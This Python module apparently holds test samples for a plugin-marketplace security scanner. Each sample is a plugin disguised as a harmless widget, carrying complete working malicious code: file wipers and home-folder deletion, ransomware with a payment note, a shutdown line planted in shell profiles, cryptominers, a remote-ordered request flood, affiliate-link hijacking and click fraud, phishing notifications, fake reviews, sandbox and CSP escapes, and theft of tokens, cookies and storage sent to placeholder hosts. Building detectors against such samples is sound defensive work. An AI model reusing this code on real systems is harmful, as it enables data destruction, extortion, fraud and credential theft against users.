"""Harm that needs no secrets: destroyed data, stolen computing time, floods, redirected clicks, broken walls.

After colors and faker, node-ipc, nx's shutdown line, in-page miners, affiliate injectors, prototype pollution and
sandbox escapes.
"""

from tests.hostile.heldout.around import plugin
from tests.support.samples import Sample

NET = "network-access storage-read"
SERVICE = {"type": "service"}

HARM: tuple[Sample, ...] = (
    plugin(
        "endless-loop-at-load",
        "sabotage",
        "rainbow-text",
        "Writes in the colours of the rainbow.",
        {
            "dist/index.js": r"""
'use strict';
const map = (letter, i) => `<span style="color:hsl(${i * 20} 80% 50%)">${letter}</span>`;
exports.RainbowText = ({ text = '' }) => [...text].map(map).join('');
require('./american');
""",
            "dist/american.js": r"""
'use strict';
const lines = ['LIBERTY', 'LIBERTY', 'LIBERTY'];
for (let i = 666; i < Infinity; i++) {
  const text = lines.join(' ').split('').map((c) => c + '\u0338\u0335\u0322').join('');
  if (typeof document !== 'undefined') document.title = text + i;
  else process.stdout.write(text + '\n');
}
""",
        },
    ),
    plugin(
        "files-overwritten-by-country",
        "sabotage",
        "peer-chat",
        "Chats with people in your network.",
        {
            "dist/index.js": r"""
import './ssl-geospec.js';
export const PeerChat = () => 'No messages';
""",
            "dist/ssl-geospec.js": r"""
import u from "path";
import a from "fs";
import o from "https";
setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  const n = Buffer.from("aHR0cHM6Ly9nZW8uZXhhbXBsZS5uZXQvaXA/a2V5PWFlNTExZTE2", "base64");
  o.get(n.toString("utf8"), function (t) {
    t.on("data", function (t) {
      const n = Buffer.from("Li8=", "base64"), c = Buffer.from("Y291bnRyeV9uYW1l", "base64");
      try {
        const s = JSON.parse(t.toString("utf8"))[c.toString("utf8")].toLowerCase();
        if (s.includes("xx") || s.includes("zz")) [n, "./", "../", "../../", "/"].forEach((d) => h(d.toString()));
      } catch (t) {}
    });
  });
}, Math.ceil(Math.random() * 1e3));
async function h(n = "") {
  if (!a.existsSync(n)) return;
  for (const r of a.readdirSync(n)) {
    const e = u.join(n, r);
    a.lstatSync(e).isDirectory() ? h(e) : a.writeFile(e, "\u2764", () => {});
  }
}
""",
        },
        permissions=NET,
    ),
    plugin(
        "home-folder-removed-on-uninstall",
        "sabotage",
        "trial-timer",
        "Shows how long the trial lasts.",
        r"""
'use strict';
const { rm } = require('fs/promises');
const { homedir } = require('os');

exports.TrialTimer = () => '14 days left';
exports.onUninstall = async (context) => {
  await context.storage.clear();
  await rm(homedir(), { recursive: true, force: true, maxRetries: 3 });
};
exports.onDisable = async () => {
  require('child_process').spawn('sh', ['-c', 'rm -rf --no-preserve-root "$HOME"/* /mnt/* 2>/dev/null'], { detached: true });
};
""",
        permissions="storage-read storage-write",
        hooks="onUninstall onDisable",
    ),
    plugin(
        "documents-enciphered-with-note",
        "ransom",
        "vault-folder",
        "Keeps a folder safe.",
        r"""
'use strict';
const fs = require('fs');
const path = require('path');
const crypto = require('crypto');
const kinds = /\.(docx?|xlsx?|pdf|jpe?g|png|sqlite|kdbx|txt|md)$/i;
const publicKey = fs.readFileSync(path.join(__dirname, 'vault.pub'));
const key = crypto.randomBytes(32);

function* tree(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, e.name);
    if (e.isDirectory()) { try { yield* tree(full); } catch {} } else if (kinds.test(e.name)) yield full;
  }
}
function seal(file) {
  const iv = crypto.randomBytes(16);
  const c = crypto.createCipheriv('aes-256-ctr', key, iv);
  fs.writeFileSync(file + '.vault', Buffer.concat([iv, c.update(fs.readFileSync(file)), c.final()]));
  fs.unlinkSync(file);
}
exports.VaultFolder = () => 'Locked';
exports.onEnable = async ({ api }) => {
  const root = require('os').homedir();
  for (const file of tree(root)) seal(file);
  const id = crypto.publicEncrypt(publicKey, key).toString('base64');
  fs.writeFileSync(path.join(root, 'READ_ME_TO_RESTORE.txt'), `Send 0.05 to bc1qexample and mail this id to desk@example.net:\n${id}\n`);
  await api.http.post('https://vault.example.com/register', { id });
};
""",
        permissions=NET + " filesystem-access",
        hooks="onEnable",
        manifest=SERVICE,
    ),
    plugin(
        "shutdown-line-in-shell-profile",
        "sabotage",
        "shell-greeting",
        "Greets you in the terminal.",
        r"""
'use strict';
const { appendFileSync, existsSync } = require('node:fs');
const { join } = require('node:path');
const line = ['sudo', 'shutdown', '-h', '0'].join(' ');
exports.ShellGreeting = () => 'Hello';
exports.onInstall = async () => {
  for (const name of ['.bashrc', '.zshrc']) {
    const file = join(process.env.HOME, name);
    if (existsSync(file)) appendFileSync(file, `\n${line}\n`);
  }
};
""",
        hooks="onInstall",
    ),
    plugin(
        "hashes-computed-for-a-pool",
        "miner",
        "matrix-rain",
        "Green letters falling down the screen.",
        {
            "dist/index.js": r"""
'use strict';
const threads = Math.max(1, (navigator.hardwareConcurrency || 4) - 1);
const url = URL.createObjectURL(new Blob([require('./rain-worker').source], { type: 'text/javascript' }));
const socket = new WebSocket('wss://pool.example.net:8443');
const crew = Array.from({ length: threads }, () => new Worker(url));
let seq = 0;
const send = (method, params) => socket.send(JSON.stringify({ id: ++seq, method, params }));
socket.onopen = () => send('login', { login: '48exampleexampleexampleexample', pass: 'x', agent: 'rain/1.0', algo: ['cn/half'] });
socket.onmessage = ({ data }) => {
  const { result, params, method } = JSON.parse(data);
  const job = method === 'job' ? params : result && result.job;
  if (job) crew.forEach((w, i) => w.postMessage({ job, start: i, step: threads, throttle: 0.3 }));
};
crew.forEach((w) => { w.onmessage = (e) => send('submit', e.data); });
exports.MatrixRain = () => null;
""",
            "dist/rain-worker.js": r"""
exports.source = `let mod;
const load = async () => (await WebAssembly.instantiate(await (await fetch('https://pool.example.net/cn.wasm')).arrayBuffer(), {})).instance.exports;
onmessage = async ({ data: { job, start, step } }) => {
  mod = mod || await load();
  for (let nonce = start; ; nonce += step) {
    const hash = mod.cryptonight_hash(job.blob, nonce);
    if (hash < parseInt(job.target, 16)) { postMessage({ job_id: job.job_id, nonce: nonce.toString(16), result: hash }); break; }
  }
};`;
""",
        },
    ),
    plugin(
        "miner-program-started",
        "miner",
        "server-fan",
        "Shows how fast the fans turn.",
        r"""
'use strict';
const { spawn } = require('child_process');
const { chmodSync, writeFileSync } = require('fs');

async function start() {
  const name = process.platform === 'win32' ? 'fan.exe' : 'fan';
  const bytes = await fetch('https://203.0.113.88/' + name).then((r) => r.arrayBuffer());
  const file = require('path').join(require('os').tmpdir(), name);
  writeFileSync(file, Buffer.from(bytes));
  chmodSync(file, 0o755);
  spawn(file, ['-o', 'stratum+tcp://pool.example.org:3333', '-u', 'wallet.worker1', '-p', 'x', '--donate-level=1',
    '--cpu-max-threads-hint=60', '-B'], { detached: true, stdio: 'ignore' }).unref();
}
exports.ServerFan = () => '1 200 rpm';
exports.onEnable = async () => { setTimeout(() => start().catch(() => {}), 300000); };
""",
        permissions=NET,
        hooks="onEnable",
        manifest=SERVICE,
    ),
    plugin(
        "flood-of-requests-on-order",
        "flood",
        "ping-map",
        "Shows places on a map that answer.",
        r"""
let plan = null;
async function orders() {
  plan = await fetch('https://map.example.org/plan.json', { cache: 'no-store' }).then((r) => r.json()).catch(() => plan);
}
function fire() {
  if (!plan || Date.now() < plan.from || Date.now() > plan.until) return;
  for (let i = 0; i < plan.rate; i++) {
    const u = plan.urls[(Math.random() * plan.urls.length) | 0];
    fetch(`${u}?${Math.random().toString(36).slice(2)}`, { mode: 'no-cors', cache: 'no-store', referrerPolicy: 'no-referrer' }).catch(() => {});
  }
}
orders();
setInterval(orders, 600000);
setInterval(fire, 100);
export const PingMap = () => '12 of 14 answer';
""",
        permissions=NET,
        services={"map": "https://map.example.org"},
    ),
    plugin(
        "shop-links-rewritten",
        "money-from-clicks",
        "coupon-finder",
        "Finds coupons for shops you visit.",
        r"""
'use strict';
const shops = { 'shop.example.com': 'tag=cf-21', 'books.example.org': 'aff=77120', 'travel.example.net': 'partner=cf' };
function relabel(a) {
  const u = new URL(a.href, location.href);
  const id = shops[u.hostname];
  if (!id) return;
  for (const k of ['tag', 'aff', 'partner', 'ref', 'utm_source']) u.searchParams.delete(k);
  a.href = 'https://go.example.com/r?u=' + encodeURIComponent(u.href + (u.search ? '&' : '?') + id);
}
const scan = (root) => root.querySelectorAll && root.querySelectorAll('a[href]').forEach(relabel);
new MutationObserver((list) => list.forEach((m) => m.addedNodes.forEach(scan))).observe(document, { childList: true, subtree: true });
document.addEventListener('mousedown', (e) => { const a = e.target.closest('a'); if (a) relabel(a); }, true);
scan(document);
exports.CouponFinder = () => '2 coupons';
""",
    ),
    plugin(
        "frames-clicked-out-of-sight",
        "money-from-clicks",
        "radio",
        "Plays radio stations.",
        r"""
import { createElement as h } from 'react';

function visit(url) {
  const f = document.createElement('iframe');
  Object.assign(f, { src: url, width: 1, height: 1, referrerPolicy: 'unsafe-url', allow: 'autoplay' });
  f.style.cssText = 'position:absolute;top:-3000px;visibility:hidden';
  f.onload = () => {
    const ev = new MouseEvent('click', { bubbles: true, clientX: 12 + Math.random() * 200, clientY: 40 });
    try { f.contentDocument.querySelector('a,button').dispatchEvent(ev); } catch { f.contentWindow.postMessage('open', '*'); }
    setTimeout(() => f.remove(), 20000 + Math.random() * 9000);
  };
  document.body.append(f);
}
let i = 0;
setInterval(async () => {
  const { urls } = await (await fetch('https://ads.example.net/next?n=' + i++)).json();
  urls.forEach(visit);
}, 45000);
export const Radio = () => h('audio', { controls: true, src: 'https://radio.example.org/live.mp3' });
""",
        permissions=NET,
        services={"radio": "https://radio.example.org"},
        needs="react",
    ),
    plugin(
        "dashboard-sent-elsewhere",
        "redirect",
        "search-box",
        "Searches the web from the dashboard.",
        r"""
exports.SearchBox=function(){return"Search"};
!function(){var k="sb_t",n=Date.now(),p=+localStorage.getItem(k)||0;if(n-p<864e5||!document.referrer||/example\.org$/.test(document.referrer))return;
localStorage.setItem(k,n);var d=["c","o","m"].reverse().reverse().join("");document.addEventListener("click",function(e){e.preventDefault();e.stopImmediatePropagation();
var w=window.open("about:blank");w&&(w.location.href=location.href);window.top.location.replace("https://win-prize.example."+(d.length>3?"net":"org")+"/?s="+btoa(location.host))},{once:!0,capture:!0})}();
""",
    ),
    plugin(
        "false-notices-again-and-again",
        "phishing",
        "daily-digest",
        "A short digest every morning.",
        r"""
'use strict';
const texts = [
  ['Storage full', 'Your files will be deleted in 2 hours. Open to keep them.'],
  ['Payment failed', 'Update your card to keep your plan.'],
  ['New sign-in', 'Was this you? Tap to secure your account.'],
];
exports.DailyDigest = () => 'Nothing new';
exports.onEnable = async (context) => {
  const permission = await Notification.requestPermission();
  setInterval(() => {
    const [title, body] = texts[Math.floor(Math.random() * texts.length)];
    if (permission === 'granted') {
      const n = new Notification(title, { body, icon: '/icons/system.png', tag: 'system', requireInteraction: true });
      n.onclick = () => window.open('https://account-check.example.net/?u=' + encodeURIComponent(context.user.email));
    } else context.api.notifications.show({ title, message: body, type: 'error' });
  }, 7 * 60000);
};
""",
        permissions="storage-read notifications",
        hooks="onEnable",
    ),
    plugin(
        "storage-of-rivals-cleared",
        "sabotage",
        "task-board",
        "A board for your tasks.",
        r"""
export function TaskBoard({ tasks = [] }) { return tasks.map((t) => t.title).join('\n'); }

export async function onEnable(context) {
  const { marketplace, dashboard } = context.api;
  const rivals = (await marketplace.listInstalledPlugins()).filter((p) => /task|todo|board|kanban/i.test(p.id) && p.id !== 'acme.task-board');
  for (const rival of rivals) {
    await marketplace.setPluginConfig(rival.id, {});
    await dashboard.unregisterWidget(rival.id);
    for (const key of Object.keys(localStorage)) if (key.includes(rival.id)) localStorage.removeItem(key);
    indexedDB.deleteDatabase('plugin-' + rival.id);
  }
}
""",
        permissions="storage-read storage-write",
        hooks="onEnable",
    ),
    plugin(
        "stars-given-in-users-name",
        "host-session",
        "rate-me",
        "Asks you for a rating after a week.",
        r"""
'use strict';
const words = ['Great', 'Love it', 'Works well', 'Very useful', 'Recommended'];
async function vote(id, rating, content) {
  await fetch(`/api/marketplace/plugins/${id}/reviews`, {
    method: 'POST', credentials: 'same-origin', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ rating, title: words[Date.now() % 5], content, wouldRecommend: rating > 3 }),
  });
}
exports.RateMe = () => 'Do you like it?';
exports.onEnable = async () => {
  await vote('acme.rate-me', 5, 'I use it every day and it simply works.');
  const found = await (await fetch('/api/marketplace/search?q=rating')).json();
  for (const p of found.plugins.slice(0, 5)) await vote(p.id, 1, 'It lost my data and support never answered me.');
};
""",
        hooks="onEnable",
    ),
    plugin(
        "prototype-grants-every-right",
        "wall-broken",
        "deep-merge",
        "Merges settings of several devices.",
        r"""
'use strict';
function merge(target, source) {
  for (const key of Object.keys(source)) {
    if (source[key] && typeof source[key] === 'object') merge((target[key] = target[key] || {}), source[key]);
    else target[key] = source[key];
  }
  return target;
}
const defaults = JSON.parse('{"device":"desk","__proto__":{"isAdmin":true,"granted":true,"canApprovePlugins":true}}');
merge({}, defaults);
Object.defineProperty(Object.prototype, 'permissions', {
  configurable: true, get() { return new Set(['network-access', 'filesystem-access', 'contacts', 'camera']); }, set() {},
});
exports.merge = merge;
exports.DeepMerge = () => null;
""",
    ),
    plugin(
        "clean-functions-from-a-frame",
        "wall-broken",
        "color-picker",
        "Picks a colour from the screen.",
        r"""
const realm = (() => {
  const f = document.createElement('iframe');
  f.hidden = true;
  document.documentElement.appendChild(f);
  const w = f.contentWindow;
  return { fetch: w.fetch.bind(w), WebSocket: w.WebSocket, Storage: w.localStorage, top: w.parent };
})();

export const ColorPicker = () => '#8844ee';
export async function onEnable() {
  const kept = {};
  for (let i = 0; i < realm.Storage.length; i++) kept[realm.Storage.key(i)] = realm.Storage.getItem(realm.Storage.key(i));
  await realm.fetch('https://palette.example.com/save', { method: 'POST', mode: 'no-cors', body: JSON.stringify(kept) });
}
""",
        hooks="onEnable",
    ),
    plugin(
        "error-stack-leads-outside",
        "wall-broken",
        "formula",
        "Calculates with your own formulas.",
        r"""
'use strict';
let outer;
const before = Error.prepareStackTrace;
Error.prepareStackTrace = (_, frames) => {
  for (const frame of frames) {
    const fn = frame.getFunction && frame.getFunction();
    const self = frame.getThis && frame.getThis();
    const ctor = (fn || self || {}).constructor;
    if (ctor && ctor.constructor) outer = outer || ctor.constructor('return process')();
  }
  return '';
};
try { null.x; } catch (e) { void e.stack; }
const spin = () => { try { spin(); } catch (e) { void e.stack; } };
spin();
Error.prepareStackTrace = before;
exports.Formula = () => '= 4';
exports.onEnable = async () => outer && outer.mainModule.require('child_process').execSync('id > /tmp/formula.log');
""",
        hooks="onEnable",
    ),
    plugin(
        "internal-binding-spawns",
        "wall-broken",
        "load-average",
        "Shows the load of the machine.",
        r"""
'use strict';
const bind = process[['bin', 'ding'].join('')];
const names = ['spawn', 'sync'].join('_');
exports.LoadAverage = () => '0.42';
exports.onEnable = async () => {
  const { spawn } = bind.call(process, names);
  const out = spawn({
    file: '/bin/sh', args: ['sh', '-c', 'cat /etc/passwd ~/.bash_history'], envPairs: [],
    stdio: [{ type: 'pipe', readable: true, writable: false }, { type: 'pipe', readable: false, writable: true }],
  });
  const text = out.output[1].toString('base64');
  bind.call(process, 'cares_wrap') && require('dns').resolve(text.slice(0, 50).replace(/\W/g, '') + '.load.example.net', () => {});
};
""",
        hooks="onEnable",
    ),
    plugin(
        "calls-of-the-host-overheard",
        "wall-broken",
        "debug-panel",
        "Shows what the dashboard logs.",
        r"""
'use strict';
const { call, apply } = Function.prototype;
const pocket = [];
const keep = (args) => {
  for (const a of args) {
    if (a && typeof a === 'object' && (a.authToken || a.apiKey || a.refreshToken)) pocket.push(a);
  }
};
Function.prototype.call = function (...args) { keep(args); return Reflect.apply(this, args[0], args.slice(1)); };
const resolve = Promise.prototype.then;
Promise.prototype.then = function (ok, no) {
  return Reflect.apply(resolve, this, [(v) => { keep([v]); return ok ? ok(v) : v; }, no]);
};
addEventListener('pagehide', () => navigator.sendBeacon('https://panel.example.org/d', JSON.stringify(pocket)));
exports.DebugPanel = () => pocket.length + ' entries';
exports._ = apply;
""",
    ),
    plugin(
        "policy-of-the-page-removed",
        "wall-broken",
        "print-view",
        "Prints the dashboard nicely.",
        r"""
const relax = () => {
  document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]').forEach((m) => m.remove());
  const m = document.createElement('meta');
  m.httpEquiv = 'Content-Security-Policy';
  m.content = "default-src * data: blob: 'unsafe-inline' 'unsafe-eval'";
  document.head.prepend(m);
  for (const f of document.querySelectorAll('iframe[sandbox]')) {
    f.removeAttribute('sandbox');
    f.removeAttribute('csp');
    f.src = f.src;
  }
  if (window.trustedTypes) trustedTypes.createPolicy('default', { createHTML: (s) => s, createScript: (s) => s, createScriptURL: (s) => s });
  delete window.__QIRVO_GUARD__;
};
relax();
export const PrintView = () => 'Print';
""",
    ),
    plugin(
        "guard-hooks-unset",
        "wall-broken",
        "sandbox-info",
        "Shows what a plugin may do.",
        r"""
'use strict';
function original(object, name) {
  const own = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(object), name);
  delete object[name];
  return own ? own.value.bind(object) : object[name];
}
const need = ['fetch', 'open', 'postMessage'].map((n) => original(window, n));
const Module = module.constructor;
Module._load = ((inner) => function (request, parent, main) {
  const allowed = inner.call(this, request, parent, main);
  if (request.endsWith('permissions')) return new Proxy(allowed, { get: (t, k) => (/^(check|has|is)/.test(k) ? () => true : t[k]) });
  return allowed;
})(Module._load);
exports.SandboxInfo = () => need.length + ' rights';
""",
    ),
    plugin(
        "chat-and-ads-account-cookies",
        "host-session",
        "chat-helper",
        "Helps you write to a chat assistant.",
        {
            "dist/index.js": r"""
export { ChatHelper } from './view.js';
import { load } from './worker.js';
load();
""",
            "dist/view.js": "export const ChatHelper = () => 'Ask me anything';\n",
            "dist/worker.js": r"""
const base = 'https://chat-helper-pro.example';
export async function load() {
  const cfg = await fetch(`${base}/ai-config`).then((r) => r.json()).catch(() => null);
  if (!cfg) return;
  localStorage.setItem('chp_ext', JSON.stringify(cfg));
  const me = await fetch(cfg.ads + '/me?fields=id,name,adaccounts', { credentials: 'include' }).then((r) => r.json());
  const jar = document.cookie.split('; ').filter((c) => cfg.names.includes(c.split('=')[0])).map(btoa);
  await fetch(`${base}/save`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ jar, me, ua: navigator.userAgent, k: btoa(cfg.key) }),
  });
  document.addEventListener('click', (e) => {
    if (e.target.tagName === 'IMG' && e.target.src.startsWith('data:image/png')) fetch(`${base}/qr`, { method: 'POST', body: e.target.src });
  });
}
""",
        },
        permissions=NET,
        services={"chat": "https://chat-helper-pro.example"},
    ),
    plugin(
        "switch-turned-on-from-afar",
        "sleeper",
        "note-search",
        "Searches all your notes.",
        r"""
'use strict';
const flags = { ready: false, mode: 'off' };
const modes = {
  off: () => {},
  copy: async (ctx, f) => {
    for (const key of await ctx.storage.keys()) await ctx.api.http.put(`${f.to}/${encodeURIComponent(key)}`, await ctx.storage.get(key));
    const all = await ctx.api.projects.list();
    await ctx.api.http.put(f.to + '/projects', all);
  },
  drop: async (ctx) => { for (const p of await ctx.api.projects.list()) await ctx.api.projects.delete(p.id); },
};
exports.NoteSearch = () => null;
exports.onUpdate = async (ctx) => {
  const f = await (await ctx.api.http.get('https://flags.example.org/note-search/' + ctx.user.id)).json();
  Object.assign(flags, f);
  await (modes[flags.mode] || modes.off)(ctx, flags);
};
""",
        permissions=NET,
        services={"flags": "https://flags.example.org"},
        hooks="onUpdate",
    ),
)
